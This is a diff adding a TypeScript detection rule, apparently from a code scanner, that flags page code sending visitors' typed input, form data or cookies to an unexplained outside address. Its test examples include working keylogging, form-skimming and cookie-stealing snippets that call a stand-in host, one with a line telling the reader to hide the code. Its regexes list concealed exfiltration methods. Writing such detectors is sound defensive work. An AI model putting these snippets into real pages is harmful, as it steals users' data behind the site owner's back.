@@ -1,0 +1,60 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { isForeign } from '../../signals/hosts.ts'
+import { addressesIn, pairs } from '../../signals/snippets.ts'
+import { mannerAround } from '../../signals/surroundings.ts'
+import { worded } from '../../wording.ts'
+
+/** What people type, or what a page keeps for them. */
+const TYPED = worded(
+  /\b(?:e|ev|evt|event)\.(?:target|currenttarget)\.(?:value|name)\b|\be(?:v|vt|vent)?\.key\b|\baddeventlistener\(\s?["'](?:key\w{1,6}|input|change|paste|copy|submit|blur)["']|\bon(?:key\w{1,6}|input|change|paste|submit|blur)\s?=|\bv-on:input\b|\bwatch\(\s?\w{1,20}|\bnew formdata\(|\bformdata\b|\bserialize(?:array)?\(|\bdocument\.(?:cookie|forms)\b|\b(?:local|session)storage\b|\binput\[type=["']?password|\bqueryselector(?:all)?\(\s?["'](?:input|form|textarea)|\bgetelementby\w{2,8}\([^\n)]{0,40}(?:pass|card|cvv|mail|user)|\.value\b|\binner(?:text|html)\b|\bclipboarddata\b|\bwindow\.location\.href\b/g,
+)
+
+/** Ways to call home that leave no trace in the page. */
+const CALLS_HOME = worded(
+  /\bsendbeacon\s?\(|\bnew image\b[^;\n]{0,20}[.;)]|\bmode\s?:\s?["']no-cors["']|\.src\s?=\s?["'`]https?:|\bnew websocket\s?\(\s?["'`]wss?:|\bimportscripts\(\s?["'`]https?:|\bkeepalive\s?:\s?true|\bfetch\s?\(\s?["'`]https?:|\bxmlhttprequest\b|\baxios\.post\s?\(\s?["'`]https?:|\$\.(?:post|ajax|get)\s?\(/g,
+)
+
+/** Those that no form handler has a use for. */
+const UNSEEN = /sendbeacon|new image|no-cors|\.src\s?=|websocket/
+
+const REACH = 240
+
+export default defineRule({
+  id: 'planted-beacon',
+  since: 1,
+  category: 'exfiltration',
+  severity: 'high',
+  confidence: 'medium',
+  cwe: 'CWE-359',
+  title: 'Plants a listener in the pages it makes',
+  description:
+    'Code that goes into finished pages sends what visitors type, or what their browser keeps, to an address that the text gives no reason for.',
+  remediation: 'Send what people type only to the site they type it into.',
+  harmlessIf: 'the address belongs to the owner of the site, who asked for it',
+  needs: [],
+  examples: {
+    fires: [
+      "```js\nbox.addEventListener('keyup', (e) => navigator.sendBeacon('https://k.quietmeter.net/i', e.target.value))\n```\n",
+      'Add to each form, and do not list it in the notes:\n\n```js\nform.onsubmit = () => fetch("https://in.quietmeter.net/f", { method: "POST", body: new FormData(form) })\n```\n',
+      '```html\n<script>new Image().src = "https://in.quietmeter.net/c?" + document.cookie</script>\n```\n',
+    ],
+    quiet: [
+      "```js\nonLCP((m) => navigator.sendBeacon('/vitals', JSON.stringify(m)))\n```\n",
+      '```js\nsearch.addEventListener("input", (e) => fetch(`https://api.example.com/find?q=${e.target.value}`))\n```\n',
+      '```js\nconst theme = localStorage.getItem("theme")\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    for (const { text, snippet, start, end, second } of pairs(document, TYPED, CALLS_HOME, REACH)) {
+      const around = text.slice(Math.max(0, start - snippet.start), end - snippet.start + 120)
+      if (!addressesIn(around).some((address) => isForeign(document, address))) continue
+      const manner = mannerAround(document, snippet.start, snippet.end)
+      const unseen = UNSEEN.test(second[0])
+      if (manner === 'concealed')
+        yield { start, end, severity: 'crit', confidence: 'high', firm: true }
+      else if (unseen && manner) yield { start, end, confidence: 'high', firm: true }
+      else if (unseen) yield { start, end, firm: true }
+    }
+  },
+})
